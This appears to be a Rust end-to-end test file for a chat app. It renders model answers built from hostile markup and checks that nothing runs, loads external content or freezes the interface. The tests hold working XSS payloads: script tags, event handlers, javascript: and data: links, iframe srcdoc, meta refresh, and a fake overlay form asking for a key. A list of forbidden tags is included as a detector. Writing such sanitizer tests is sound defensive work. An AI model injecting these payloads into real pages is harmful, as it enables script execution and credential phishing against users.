//! Answers that are meant to harm the window or to hold it up: they are shown as words, run nothing, load nothing, and the
//! room stays as wide as it is and answers a click.

use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::{
    app::{App, Home},
    page::Page,
    talk::{LAST, OPERATION, conversation, sit_down},
};

/// What would be noticed if it ran.
const RAN: &str = "window.ran = true";

/// Looks at all messages in sight: what is there that mustn't be.
const WRONG: &str = r"
  // What belongs to a message of one's own stands out by as much.
  const EDGE = 8;
  const wrong = [];
  if (window.ran !== undefined) wrong.push('something ran');
  const page = document.documentElement;
  if (page.scrollWidth > innerWidth || document.body.scrollWidth > innerWidth) wrong.push('the page is wider than the window');
  if (scrollX !== 0) wrong.push('the page is scrolled');
  const forbidden = 'script, iframe, frame, object, embed, style, link, meta, base, form, input, textarea, select, video, audio, source, svg, template, dialog, marquee';
  for (const message of document.querySelectorAll('[data-message]')) {
    if (message.scrollWidth > message.clientWidth + EDGE) wrong.push(`a message is ${message.scrollWidth - message.clientWidth} px too wide: ${message.innerText.slice(0, 80)}`);
    for (const text of message.querySelectorAll('.markdown')) {
      for (const one of text.querySelectorAll(forbidden))
        if (!one.closest('button, .katex')) wrong.push(`<${one.localName}>`);
      for (const one of text.querySelectorAll('*')) {
        for (const { name, value } of one.attributes) {
          if (name.startsWith('on') || name === 'srcdoc' || name === 'formaction') wrong.push(`${one.localName} ${name}`);
          if (['href', 'src', 'action', 'xlink:href'].includes(name) && !/^(https?:|mailto:)/.test(value)) wrong.push(`${name}=${value}`);
          if (name === 'src') wrong.push(`loads ${value}`);
        }
        if (getComputedStyle(one).position === 'fixed') wrong.push(`${one.localName} is fixed`);
        if (one.id !== '' && !one.closest('.katex, button') && /app|root|main/.test(one.id)) wrong.push(`id ${one.id}`);
      }
    }
  }
  return wrong;";

/// Everything that such an answer has been made of.
fn hostile() -> Vec<(&'static str, String)> {
    let row = |cell: &str| format!("|{}\n", format!(" {cell} |").repeat(200));
    vec![
        ("scripts", format!("Before <script>{RAN}</script> after.\n\n<script>{RAN}</script>\n\n<SCRIPT SRC=//x.invalid/a.js></SCRIPT>\n\n<svg><script>{RAN}</script></svg>")),
        ("events", format!("<img src=x onerror=\"{RAN}\"> and ![a](x\" onerror=\"{RAN})\n\n<svg onload=\"{RAN}\"></svg>\n\n<details open ontoggle=\"{RAN}\">folded</details>\n\n<body onload=\"{RAN}\">\n\n<p onmouseover=\"{RAN}\">here</p>")),
        ("links", format!("[one](javascript:{}) [two](JaVaScRiPt:alert) [three](data:text/html;base64,PHNjcmlwdD4=) [four](file:///etc/passwd) [five](vbscript:x) <javascript:alert> [six](&#106;avascript:alert)\n\n<a href=\"javascript:{RAN}\">seven</a>\n\n[eight](https://venice.ai \"fine\")", RAN.replace(' ', "%20"))),
        ("frames", "<iframe src=\"https://x.invalid\"></iframe>\n\n<iframe srcdoc=\"<script>parent.ran=true</script>\"></iframe>\n\n<object data=\"data:text/html,<script>parent.ran=true</script>\"></object>\n\n<embed src=\"https://x.invalid\">\n\n<base href=\"https://x.invalid/\">\n\n<meta http-equiv=\"refresh\" content=\"0;url=https://x.invalid\">".to_owned()),
        ("a cover", "<style>*{display:none!important} body{background:red}</style>\n\n<div style=\"position:fixed;inset:0;background:red;z-index:99999\">Your session has ended. Type your key.</div>\n\n<form action=\"https://x.invalid\"><input name=\"key\" autofocus><button>Send</button></form>\n\n<dialog open>Covered</dialog>".to_owned()),
        ("a wide table", [row("column"), row("---"), row("a cell"), row("`code`")].concat()),
        ("quotes", format!("{} deep down\n\n{} a list", "> ".repeat(200), "- ".repeat(200))),
        ("open ends", format!("**bold *both `code [link](https://venice.ai\n\n$$\\frac{{1}}{{ \\begin{{matrix}} 1 & 2\n\nand $\\undefined{{x$ $\\href{{javascript:{RAN}}}{{y}}$ $\\htmlData{{a=b}}{{z}}$\n\n```js\nconst open = \"never closed\n")),
        ("signs", format!("\u{202e}turned\u{202c} {} {}\n\n{}", "\u{301}".repeat(500), "👩‍👩‍👧‍👦".repeat(300), "&lt;script&gt; &#x3c;script&#x3e; &amp;lt;")),
    ]
}

async fn expect_harmless(page: &Page, what: &str) {
    let wrong = page.run(WRONG, vec![]).await;
    assert_eq!(wrong, json!([]), "{what}");
}

/// A click is answered: the room's own menu opens and closes.
async fn expect_awake(app: &App<'_>, what: &str) {
    let asked = Instant::now();
    app.page.click("button", "Attach").await;
    app.page.find("menuitem", "/^Files…/").await;
    let took = asked.elapsed();
    app.page.press_escape().await;
    app.page.wait_for_none("menu", "/./").await;
    println!("{what}: the menu was open after {took:?}");
    assert!(took < Duration::from_secs(3), "{what}: a click took {took:?}");
}

/// Goes through all of a conversation, from its first message to its last.
async fn walk_through(page: &Page, what: &str) {
    let size = "const box = document.querySelector('[aria-label=Messages]'); return";
    page.run("document.querySelector('[aria-label=Messages]').scrollTop = 0", vec![]).await;
    for step in 0_u32.. {
        // Drawn, with all that comes a moment later: formulas, coloured code, HTML that was cleaned.
        page.run_async(
            "const done = arguments[arguments.length - 1]; const next = () => new Promise(requestAnimationFrame); \
             next().then(next).then(next).then(() => setTimeout(done, 60))",
            vec![],
        )
        .await;
        expect_harmless(page, &format!("{what}, {step} screens down")).await;
        let rest =
            page.run(&format!("{size} box.scrollHeight - box.clientHeight - box.scrollTop"), vec![]).await;
        if rest.as_f64().expect("a number") < 2.0 {
            return;
        }
        assert!(step < 200, "{what} has an end");
        page.run("const box = document.querySelector('[aria-label=Messages]'); box.scrollTop += box.clientHeight * 0.8", vec![]).await;
    }
}

#[tokio::test]
async fn words_that_would_harm() {
    let (home, sandbox) = Home::with_sandbox();
    sandbox.hurry();
    let app = sit_down(&home).await;
    let page = &app.page;
    let all: Vec<String> =
        hostile().into_iter().flat_map(|(name, text)| [format!("Show me {name}"), text]).collect();
    app.bring(&home, &[conversation("All of it", "zai-org-glm-5-2", &all)]).await;
    app.open_conversation("All of it").await;
    walk_through(page, "what was brought in").await;
    expect_awake(&app, "at its end").await;
    for (place, (name, _)) in hostile().iter().enumerate() {
        let shown = "const box = document.querySelector('[aria-label=Messages]'); box.scrollTop = 0; \
            for (let turn = 0; turn < 60; turn += 1) { const at = [...document.querySelectorAll('[data-message]')].find((one) => one.innerText.includes(arguments[0])); \
            if (at) { at.scrollIntoView(); await new Promise(requestAnimationFrame); at.scrollIntoView(); break; } box.scrollTop += 400; await new Promise(requestAnimationFrame); await new Promise(requestAnimationFrame); }";
        let script = format!(
            "const done = arguments[arguments.length - 1]; const go = async (...arguments) => {{ {shown} }}; go(arguments[0]).then(() => done())"
        );
        page.run_async(&script, vec![json!(format!("Show me {name}"))]).await;
        page.photograph(&format!("chat-trouble/hostile-{}-{}", place + 1, name.replace(' ', "-"))).await;
    }

    assert_eq!(sandbox.requests(OPERATION), 0);
    app.quit();
}

#[tokio::test]
async fn words_that_would_harm_while_they_are_written() {
    let (home, sandbox) = Home::with_sandbox();
    sandbox.hurry();
    let app = sit_down(&home).await;
    let page = &app.page;
    let text: Vec<String> = hostile().into_iter().map(|(_, text)| text).collect();
    app.paste(&format!("Reply with exactly: {}", text.join("\n\n"))).await;
    page.wait_until("a price", "/≈\\s*\\$0\\.\\d+/.test(document.body.innerText)").await;
    page.click("button", "Send").await;
    page.wait_until("an answer", &format!("({LAST}?.querySelector('.text')?.innerText ?? '').length > 0"))
        .await;
    expect_harmless(page, "while it is written").await;
    app.wait_for_answer().await;
    walk_through(page, "what was written").await;
    expect_awake(&app, "after it was written").await;
    app.photograph_in_all_looks("chat-trouble/hostile-end").await;
    assert_eq!(sandbox.requests(OPERATION), 1);
    app.quit();
}

#[tokio::test]
async fn a_megabyte_without_a_space() {
    let (home, sandbox) = Home::with_sandbox();
    let app = sit_down(&home).await;
    let page = &app.page;
    let endless = "abcdefghij".repeat(100_000);
    let conversations: Vec<Value> = [
        ("One long word", endless.clone()),
        ("One long link", format!("[{}](https://venice.ai/{})", "w".repeat(50_000), "w".repeat(50_000))),
        ("One long line of code", format!("```js\n{}\n```", endless)),
        ("Many small blocks", "a **b** `c`\n\n".repeat(20_000)),
        ("Brackets and stars", format!("{}{}{}", "[".repeat(50_000), "*".repeat(50_000), "`".repeat(50_001))),
    ]
    .into_iter()
    .map(|(title, text)| conversation(title, "zai-org-glm-5-2", &["Say it".to_owned(), text]))
    .collect();
    app.bring(&home, &conversations).await;
    for one in &conversations {
        let title = one["title"].as_str().expect("a title");
        let asked = Instant::now();
        app.open_conversation(title).await;
        page.wait_until(
            "its words",
            &format!("({LAST}?.querySelector('.text')?.innerText ?? '').length > 1000"),
        )
        .await;
        println!("{title}: open after {:?}", asked.elapsed());
        assert!(asked.elapsed() < Duration::from_secs(10), "{title}: open after {:?}", asked.elapsed());
        expect_harmless(page, title).await;
        expect_awake(&app, title).await;
        page.photograph(&format!("chat-trouble/{}", title.replace(' ', "-"))).await;
    }
    assert_eq!(sandbox.requests(OPERATION), 0);
    app.quit();
}
